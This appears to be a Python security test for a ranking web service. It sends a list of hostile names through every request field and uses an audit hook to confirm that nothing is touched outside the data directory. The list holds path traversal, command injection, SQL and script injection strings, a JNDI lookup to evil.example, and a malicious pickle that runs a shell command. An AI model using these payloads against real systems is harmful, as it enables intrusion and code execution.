"""Names are never paths and bytes are never programs: hostile names in every field, and nothing is touched outside.

The server runs with an audit hook that writes down every file it opens, makes, renames or removes, every program it
starts and every pickle it loads.
"""

import base64
import json
import os
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx2
import pytest

from dayjob.lab.server import Server, running

RANKER = {"kind": "ranker", "context_dim": 2, "candidate_dim": 2}
PICKLE = base64.b64encode(b"cos\nsystem\n(S'touch /tmp/owned'\ntR.").decode()
HOSTILE = [
    "..", "../..", "../../../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "//etc/passwd", "C:\\boot.ini",
    "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/", "..%252f..%252f", "..%c0%af..%c0%af",
    "file:///etc/passwd", "\\\\host\\share", "~root/.ssh/id_rsa", "$HOME/.profile", "`touch owned`", "$(touch owned)",
    "; touch owned", "| touch owned", "a\x00.json", "a\nb", "\r\nSet-Cookie: a=b", "\x1b[2J", "\u202ecod.exe",
    "．．／．．／etc", "‥/‥/", "Ω" * 200, "\U0001f4a3", "e\u0301", "\ud7ff", "\uffff", "con", "nul", "aux.txt", "-rf",
    "--help", "*", "?", "{{7*7}}", "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "' OR 1=1 --",
    '"; DROP TABLE x;', "__proto__", "__class__", ".git/config", "versions/../../control.db", "journal.db", "x" * 5_000,
    "\ufeffx", PICKLE, " ", ".",
]  # fmt: skip
# Where the interpreter finds code, and what the system says of itself.
CODE = Path(__file__).parents[2]
MAY_BE_READ = ("/proc/", "/sys/", "/dev/", "/usr/", sys.prefix, sys.base_prefix, str(CODE / "src"), str(CODE / ".venv"))
HOOK = """
import os, sys
log = os.open({log!r}, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
busy = False
def hook(event, arguments):
    global busy
    if busy or event not in {events!r}:
        return
    busy = True
    try:
        os.write(log, (event + "\\t" + "\\t".join(repr(each)[:400] for each in arguments) + "\\n").encode())
    finally:
        busy = False
sys.addaudithook(hook)
"""
PROGRAMS = {"subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "pickle.find_class"}
EVENTS = PROGRAMS | {
    "open", "os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.link", "os.symlink", "os.chmod", "os.truncate",
    "shutil.rmtree",
}  # fmt: skip


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    root = tmp_path_factory.mktemp("paths")
    (root / "hook").mkdir()
    hook = HOOK.format(log=str(root / "audit.log"), events=EVENTS)
    (root / "hook" / "sitecustomize.py").write_text(hook)
    paths = os.pathsep.join([str(root / "hook"), *([os.environ["PYTHONPATH"]] if "PYTHONPATH" in os.environ else [])])
    with running(root / "data", environ={"PYTHONPATH": paths, "DAYJOB_BODY_LIMIT_BYTES": "100000"}) as one:
        yield one


def audited(server: Server) -> list[list[str]]:
    return [line.split("\t") for line in (server.data.parent / "audit.log").read_text(errors="replace").splitlines()]


def outside(server: Server, event: list[str]) -> bool:
    """Whether an audited event reached for something that it has no business with."""
    if event[0] in PROGRAMS:
        return True
    ours = [str(server.data)] if event[0] != "open" else [str(server.data), *MAY_BE_READ]
    path = event[1].strip("'\"")
    return not path.isdigit() and not path.startswith(tuple(ours))  # a number is a descriptor that is open already


def listing(root: Path) -> set[str]:
    return {str(path.relative_to(root)) for path in root.rglob("*")}


def calls(name: str) -> Iterator[tuple[str, str, Any]]:
    """Every field that takes a name, with this one in it."""
    part = quote(name.encode("utf-8", "surrogatepass"), safe="")
    vector, decision = {"features": [1, 0]}, str(uuid.uuid4())
    yield "PUT", f"/v1/policies/{part}", RANKER
    yield "GET", f"/v1/policies/{part}", None
    yield "GET", f"/v1/policies/{part}/versions", None
    yield "GET", f"/v1/policies/{part}/report", None
    yield "POST", f"/v1/policies/{part}/freeze", {}
    yield "PUT", "/v1/policies/geo", RANKER | {"recipe": name}
    yield "PUT", "/v1/policies/talk", {"kind": "language", "base": name}
    yield "POST", "/v1/policies/geo/learn", {"recipe": name}
    yield "POST", "/v1/policies/geo/promote", {"version": name, "reason": name}
    yield "POST", "/v1/policies/geo/rollback", {"to": name}
    yield "POST", "/v1/policies/geo/freeze", {"serve": name}
    yield "POST", "/v1/rank", {"policy": name, "context": vector}
    asked = {"policy": "geo", "context": vector, "user": name, "session": name}
    yield "POST", "/v1/rank", asked | {"candidates": [vector | {"id": name, "meta": {name: name}}]}
    yield "POST", "/v1/rank", asked | {"id": name, "candidates": [{"id": name}]}
    yield "POST", "/v1/rank", {"policy": "geo", "context": {"features_b64": name}}
    yield "POST", "/v1/feedback", {"decision": decision, "kind": "none", "source": name, "text": name, "token": name}
    yield "POST", "/v1/feedback", {"session": name, "kind": "thumb", "value": 1}
    yield "POST", "/v1/feedback", {"decision": decision, "kind": "truth", "item": name}
    yield "POST", "/v1/feedback", {"decision": name, "kind": "retract", "value": name, "id": name}
    yield "GET", f"/v1/jobs/{part}", None
    yield "PATCH", f"/v1/users/{part}", {"learn": True}
    yield "GET", f"/v1/users/{part}", None
    yield "GET", f"/v1/export?policy={part}&format={part}", None
    yield "GET", f"/static/{part}", None
    yield "GET", f"/{part}", None


def test_hostile_names_reach_nothing_outside_the_data_directory(server):
    root = server.data.parent
    with httpx2.Client(base_url=server.url, timeout=10) as http:
        assert http.put("/v1/policies/geo", json=RANKER).status_code == 201
        line = json.dumps({"id": "a", "features": [1, 0]}).encode()
        headers = {"Content-Type": "application/x-ndjson"}
        assert http.put("/v1/policies/geo/catalog", content=line, headers=headers).status_code == 200
        before, seen = listing(root), len(audited(server))
        for name in HOSTILE:
            for method, path, body in calls(name):
                answer = http.request(method, path, json=body)
                assert answer.status_code < 500, (method, path, body, answer.text)
                assert "root:" not in answer.text, (method, path)
            catalog = json.dumps({"id": name, "features": [1, 0], "meta": {"x": name}}).encode()
            assert http.put("/v1/policies/geo/catalog", content=catalog, headers=headers).status_code in (200, 422)
    assert listing(root) == before
    assert not Path("/tmp/owned").exists()
    new = audited(server)[seen:]
    assert any(str(server.data) in "".join(event) for event in audited(server)), "the hook has seen nothing"
    assert [event for event in new if outside(server, event)] == []


def test_static_files_are_named_one_by_one(server):
    for path in (
        "/static/../serve/auth.py",
        "/static/..%2fauth.py",
        "/static/%2e%2e/%2e%2e/config.py",
        "/static/",
        "/static/.",
    ):
        assert httpx2.get(server.url + path).status_code in (307, 404)
    assert httpx2.get(f"{server.url}/static/dayjob.css").status_code == 200
